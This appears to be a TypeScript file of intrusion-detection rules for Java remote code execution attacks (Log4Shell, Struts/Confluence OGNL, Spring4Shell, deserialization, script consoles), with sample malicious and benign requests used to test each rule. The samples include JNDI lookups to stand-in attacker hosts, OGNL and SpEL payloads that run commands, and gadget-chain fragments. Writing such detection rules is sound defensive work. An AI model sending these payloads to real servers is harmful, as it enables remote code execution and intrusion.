// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the traffic really holds these characters.
import { colon, dollar, open } from '../patterns.ts';
import type { Rule } from '../rule.ts';
import { http, post, withHeader } from '../traffic/http.ts';

const shared = {
  type: 'vulnerability',
  category: 'code-execution',
  severity: 'CRITICAL',
  on: 'http any any -> any any',
} as const;

const log4j = {
  ...shared,
  threat: 9_000_200,
  name: 'Apache Log4j Remote Code Execution Vulnerability',
  cves: ['CVE-2021-44228', 'CVE-2021-45046'],
  description:
    'A request holds a lookup that an old Log4j follows when it logs the text: it loads and runs a class from the named server. Look for connections from the server to that name; update Log4j.',
  references: ['https://nvd.nist.gov/vuln/detail/CVE-2021-44228'],
} as const;

/** The lookup itself, or one whose letters are themselves lookups. */
const lookup = `${dollar}${open}(?:\\s*jndi${colon}|[a-z:\\-]{0,8}${dollar}${open}(?:lower|upper|env|sys|date|main|[^}:]{0,20}${colon}${colon}?-|${colon}))`;
const text = '${jndi:ldap://10.9.9.9:1389/a}';

const struts = {
  ...shared,
  threat: 9_000_204,
  name: 'Apache Struts and Confluence OGNL Injection Vulnerability',
  cves: ['CVE-2017-5638', 'CVE-2018-11776', 'CVE-2022-26134'],
  description:
    'A request holds an expression that vulnerable Struts or Confluence servers evaluate, with the right to run programs.',
  references: ['https://nvd.nist.gov/vuln/detail/CVE-2017-5638', 'https://nvd.nist.gov/vuln/detail/CVE-2022-26134'],
} as const;

const spring = {
  ...shared,
  threat: 9_000_206,
  name: 'Spring Framework Remote Code Execution Vulnerability',
  cves: ['CVE-2022-22965'],
  description:
    'A parameter reaches the class loader of a Spring application through its data binding and makes Tomcat write a program into its web folder.',
  references: ['https://nvd.nist.gov/vuln/detail/CVE-2022-22965'],
} as const;

export const java: readonly Rule[] = [
  {
    ...log4j,
    sid: 9_000_200,
    rev: 1,
    match: ['flow:to_server', 'http.uri', 'content:"${"; fast_pattern', `pcre:"/${lookup}/i"`],
    attacks: [
      http('raw', `/?x=${text}`),
      http('encoded', `/?x=${encodeURIComponent(text)}`),
      http('encoded twice', `/?x=${encodeURIComponent(encodeURIComponent(text))}`),
      http('in the path', '/$%7Bjndi:dns://evil.example/a%7D/x'),
      http('lower', '/?x=${${lower:j}ndi:rmi://10.9.9.9/a}'),
      http('default values', '/?x=${${::-j}${::-n}${::-d}${::-i}:ldap://10.9.9.9/a}'),
      http('environment', '/?x=${${env:NaN:-j}ndi${env:NaN:-:}ldap://10.9.9.9/a}'),
      http('in the middle', '/?x=${jn${upper:d}i:ldap://10.9.9.9/a}'),
    ],
    benign: [
      http('a template variable', '/?x=${user.name}'),
      http('the word', '/search?q=jndi:ldap://'),
      http('nested variables', '/?x=${a${b}}'),
    ],
  },
  {
    ...log4j,
    sid: 9_000_201,
    rev: 1,
    match: ['flow:to_server', 'http.header.raw', 'content:"${"; fast_pattern', `pcre:"/${lookup}/i"`],
    attacks: [
      withHeader('User-Agent', `User-Agent: ${text}`),
      withHeader('X-Api-Version', `X-Api-Version: ${text}`),
      withHeader('Cookie', `Cookie: session=${text}`),
      withHeader('mixed case', 'X-Forwarded-For: ${JnDi:LdApS://evil.example/a}'),
      withHeader('obfuscated', 'Referer: ${${lower:j}${lower:n}${lower:d}i:${lower:rmi}://10.9.9.9/a}'),
    ],
    benign: [
      withHeader('a variable', 'X-Trace: ${trace.id}'),
      withHeader('the word', 'X-Note: jndi:ldap is dangerous'),
    ],
  },
  {
    ...log4j,
    sid: 9_000_202,
    rev: 1,
    match: ['flow:to_server', 'http.request_body', 'content:"${"; fast_pattern', `pcre:"/${lookup}/i"`],
    attacks: [
      post('a form', '/login', `user=${text}&password=x`),
      post('JSON', '/login', `{"user":"${text}"}`, ['Content-Type: application/json']),
      post('obfuscated', '/login', 'user=${${::-j}ndi:ldap://10.9.9.9/a}'),
    ],
    benign: [post('a template', '/mail', 'text=Dear ${name}, your ${order.id} is ready')],
  },
  {
    ...log4j,
    sid: 9_000_203,
    rev: 1,
    match: [
      'flow:to_server',
      'http.request_body',
      'content:"jndi"; nocase; fast_pattern',
      `pcre:"/(?:%(?:25)*24|\\\\u0024)${open}(?:%20|\\+)*jndi${colon}/i"`,
    ],
    attacks: [
      post('an encoded form', '/login', `user=${encodeURIComponent(text)}`),
      post('JSON escapes', '/login', '{"user":"\\u0024\\u007bjndi:ldap://10.9.9.9/a}"}', [
        'Content-Type: application/json',
      ]),
    ],
    benign: [post('the word', '/comment', 'text=%24+jndi%3A+is+a+lookup')],
  },
  {
    ...struts,
    sid: 9_000_204,
    rev: 1,
    match: [
      'flow:to_server',
      'http.header.raw',
      'content:"Content-Type"; nocase; fast_pattern',
      String.raw`pcre:"/^Content-(?:Type|Disposition):[^\r\n]*[%$]\{[^\r\n]*[#@(]/mi"`,
    ],
    attacks: [
      withHeader(
        'CVE-2017-5638',
        "Content-Type: %{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}",
        '/index.action',
      ),
      withHeader(
        'with a dollar',
        "Content-Type: ${(#_='multipart/form-data').(@java.lang.Runtime@getRuntime().exec('id'))}",
        '/index.action',
      ),
    ],
    benign: [
      withHeader('an ordinary type', 'Content-Type: multipart/form-data; boundary=----x%7B1'),
      withHeader('a boundary with a dollar', 'Content-Type: multipart/form-data; boundary=$1'),
    ],
  },
  {
    ...struts,
    sid: 9_000_205,
    rev: 1,
    match: [
      'flow:to_server',
      'http.uri',
      'content:"{"; fast_pattern',
      String.raw`pcre:"/[%$]\{[^}]{0,400}(?:@[a-z][\w.]{3,80}@|\(#\w+\s*=|#(?:_memberAccess|context|parameters|request|attr)\b|\.getRuntime\s*\()/i"`,
    ],
    attacks: [
      http(
        'Confluence',
        '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%29%7D/',
      ),
      http('S2-057', '/struts/${(#ct=#request)}/actionChain1.action'),
      http(
        'in a parameter',
        '/x.action?redirect=%25%7B(%23_memberAccess%3D%40ognl.OgnlContext%40DEFAULT)%7D'.replace('%25%7B', '$%7B'),
      ),
    ],
    benign: [http('a variable', '/api/$%7Bversion%7D/users'), http('an anchor in a template', '/x?tpl=${link}#top')],
  },
  {
    ...spring,
    sid: 9_000_206,
    rev: 1,
    match: [
      'flow:to_server',
      'http.uri',
      'content:"classLoader"; nocase; fast_pattern',
      String.raw`pcre:"/[?&]class(?:\.|\[['\x22]?)module(?:['\x22]?\])?(?:\.|\[['\x22]?)classLoader/i"`,
    ],
    attacks: [
      http('in the query', '/x?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di'),
      http('encoded', '/x?class%2Emodule%2EclassLoader%2Eresources.context=1'),
      http('brackets', "/x?class['module'].classLoader.x=1"),
    ],
    benign: [
      http('documentation', '/javadoc/java/lang/ClassLoader.html?class=module'),
      http('a search', '/search?q=class.module.classLoader'),
    ],
  },
  {
    ...spring,
    sid: 9_000_207,
    rev: 1,
    match: [
      'flow:to_server',
      'http.request_body',
      'content:"classLoader"; nocase; fast_pattern',
      String.raw`pcre:"/(?:^|&)class(?:\.|%2e)module(?:\.|%2e)classLoader(?:\.|%2e)/i"`,
    ],
    attacks: [
      post('in a form', '/x', 'class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp'),
      post('not first, encoded', '/x', 'a=1&class%2emodule%2eclassLoader%2eDefaultAssertionStatus=x'),
    ],
    benign: [post('text', '/comment', 'text=set class.module.classLoader to null')],
  },
  {
    ...shared,
    sid: 9_000_208,
    rev: 1,
    severity: 'HIGH',
    name: 'Java Deserialization Object in HTTP Request',
    cves: ['CVE-2015-7501', 'CVE-2015-4852'],
    description:
      'A request holds a serialised Java object of a class that is known from attack tools. A server that restores it runs what it describes.',
    match: [
      'flow:to_server',
      'http.request_body',
      'content:"|ac ed 00 05|"; fast_pattern',
      String.raw`pcre:"/org\.apache\.commons\.(?:collections4?\.functors|beanutils\.BeanComparator)|com\.sun\.rowset\.JdbcRowSetImpl|TemplatesImpl|java\.lang\.ProcessBuilder/"`,
    ],
    attacks: [
      post(
        'commons collections',
        '/invoker/JMXInvokerServlet',
        '\xac\xed\x00\x05sr\x00:org.apache.commons.collections.functors.ChainedTransformer0',
        ['Content-Type: application/x-java-serialized-object'],
      ),
      post('beans', '/invoker/readonly', '\xac\xed\x00\x05sr\x00+org.apache.commons.beanutils.BeanComparator', [
        'Content-Type: application/octet-stream',
      ]),
    ],
    benign: [
      post('an ordinary object', '/rmi', '\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07', [
        'Content-Type: application/x-java-serialized-object',
      ]),
    ],
  },
  {
    ...shared,
    sid: 9_000_209,
    rev: 1,
    severity: 'HIGH',
    name: 'Java Runtime Execution in HTTP Request',
    cves: ['CVE-2015-1427', 'CVE-2022-22947'],
    description:
      'A request holds Java, Groovy or SpEL code that starts a program, as attacks on script consoles, Elasticsearch and Spring Cloud Gateway do.',
    match: [
      'flow:to_server',
      'http.request_body',
      'content:"exec"; fast_pattern',
      String.raw`pcre:"/(?:java\.lang\.Runtime|Runtime)\)?(?:\.|%2e)getRuntime(?:\(|%28)\s*(?:\)|%29)\s*(?:\.|%2e)exec(?:\(|%28)|(?:['\x22]|%27|%22)\s*(?:\.|%2e)execute(?:\(|%28)\s*(?:\)|%29)(?:\.|%2e)text/i"`,
    ],
    attacks: [
      post(
        'Elasticsearch',
        '/_search',
        '{"script_fields":{"x":{"script":"java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime().exec(\\"id\\")"}}}'.replace(
          '(\\"java.lang.Runtime\\")',
          '("java.lang.Runtime").Runtime',
        ),
        ['Content-Type: application/json'],
      ),
      post('SpEL', '/actuator/gateway/routes/x', '{"value":"#{T(java.lang.Runtime).getRuntime().exec(\'id\')}"}', [
        'Content-Type: application/json',
      ]),
      post('Jenkins script console', '/script', 'script=println+%22id%22.execute%28%29.text'),
    ],
    benign: [post('text', '/comment', 'text=Runtime.getRuntime() has an exec method')],
  },
];
